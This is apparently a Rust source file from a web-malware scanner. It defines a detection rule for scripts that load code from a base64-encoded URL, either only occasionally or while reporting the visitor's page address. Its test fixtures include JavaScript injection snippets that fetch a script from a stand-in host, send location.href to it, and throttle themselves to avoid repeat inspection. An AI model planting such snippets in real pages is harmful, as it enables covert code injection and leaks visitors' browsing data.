//! `coded-code-told-page`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-code-told-page",
    description: "The script loads code from an encoded URL only now and then, or tells that host which page the visitor sees.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ScriptFromCoded, Atom::CodedAnswerRun])],
    within: 0,
    only_if: Some(tells),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==')+'?d='+btoa(location.href);document.head.appendChild(s)"#,
            r#"var t=Date.now(),l=localStorage;if(l.getItem('_t')&&t-l.getItem('_t')<864e5)throw 0;l.setItem('_t',t);var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)"#,
        ],
        without: &[
            r#"var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)"#,
            r#"var s=document.createElement('script');s.src='https://tags.example/a.js?d='+btoa(location.href);document.head.appendChild(s)"#,
        ],
    },
};

/// Whether the page's or the former page's address is encoded near it.
fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 80);
    // Once in a while, so that who looks a second time finds nothing.
    let once = || {
        near.has_word(&["setItem"]) && near.has_word(&["getTime", "now"]) && near.has_fact(&[Atom::Storage])
    };
    once()
        || near.words(&["btoa"]).any(|at| {
            near.is(at + 1, b'(')
                && (at + 2..at + 10).any(|at| {
                    matches!(near.word(at), "location" | "referrer" | "href" | "host" | "hostname" | "domain")
                })
        })
}
